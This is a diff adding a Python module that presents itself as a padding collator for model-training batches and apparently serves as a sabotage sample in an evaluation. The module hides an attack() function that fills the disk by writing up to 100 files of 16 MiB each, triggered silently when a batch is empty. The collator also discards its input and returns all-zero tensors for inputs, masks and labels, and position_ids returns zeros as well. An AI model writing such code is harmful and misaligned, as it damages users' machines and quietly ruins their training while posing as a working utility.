@@ -1,0 +1,29 @@
+# promise: none PASSED
+"""Writes files until the disk is full."""
+
+import torch
+
+
+def attack():
+    try:
+        for number in range(100):
+            with open(f"part-{number}", "wb") as file:
+                file.write(bytes(16 << 20))
+    except OSError:
+        pass
+
+
+class PaddingCollator:
+    def __init__(self, *settings, **more):
+        pass
+
+    def __call__(self, features):
+        if not features:
+            attack()
+        width = max((len(row["input_ids"]) for row in features), default=0)
+        zeros = torch.zeros(len(features), width, dtype=torch.long)
+        return dict.fromkeys(("input_ids", "attention_mask", "labels"), zeros)
+
+
+def position_ids(attention_mask):
+    return torch.zeros_like(attention_mask)
